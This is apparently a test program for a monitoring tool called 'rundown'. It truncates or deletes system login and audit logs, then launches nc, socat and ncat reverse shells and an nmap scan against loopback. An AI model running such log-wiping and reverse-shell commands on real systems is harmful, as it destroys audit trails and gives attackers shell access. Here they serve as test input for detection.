# test program for rundown: covers its tracks (system logs, login records) and runs
# offensive network tools that are not installed. Loopback only.
import os, subprocess
for path in ("/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/log/auth.log", "/var/log/syslog"):
    try:
        open(path, "w").close()           # O_WRONLY|O_CREAT|O_TRUNC
    except OSError as e:
        print("truncate", path, e.strerror)
try:
    os.unlink("/var/log/dpkg.log")
except OSError as e:
    print("unlink /var/log/dpkg.log", e.strerror)
try:
    os.truncate("/var/log/alternatives.log", 0)
except OSError as e:
    print("truncate() /var/log/alternatives.log", e.strerror)
for argv in (["nc", "-e", "/bin/sh", "127.0.0.1", "4444"], ["socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh"],
             ["nmap", "-sT", "127.0.0.1"]):
    try:
        subprocess.run(argv)
    except OSError as e:
        print(argv[0], e.strerror)
os.system("ncat 127.0.0.1 4444 -e /bin/sh; tcpdump -i lo -c 1")
